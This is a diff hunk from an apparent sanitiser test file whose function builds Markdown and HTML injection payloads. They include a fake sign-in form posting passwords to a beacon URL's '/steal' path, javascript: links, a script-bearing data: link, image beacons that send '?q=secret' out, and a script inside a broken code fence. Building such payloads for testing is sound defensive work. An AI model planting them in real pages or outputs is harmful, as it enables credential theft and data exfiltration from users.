@@ -25,7 +25,7 @@ def payload_families(beacon_url: str) -> dict[str, str]:
         "form and input": (f'<form action="{beacon_url}/steal"><input type="password" name="p">'
                            "<button>Sign in</button></form>"),
         "javascript link": f"[click me](javascript:{RUN}) <javascript:{RUN}> [ref][r]\n\n[r]: javascript:{RUN}",
-        "data link": f"[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "data link": "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
         "remote image": f"![exfil]({beacon_url}/beacon.png?q=secret) [![in a link]({beacon_url}/beacon2.png)](https://example.com)",
         "data image": "![pixel](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)",
         "broken fence": f"```html\n<script>{RUN}</script>\n",
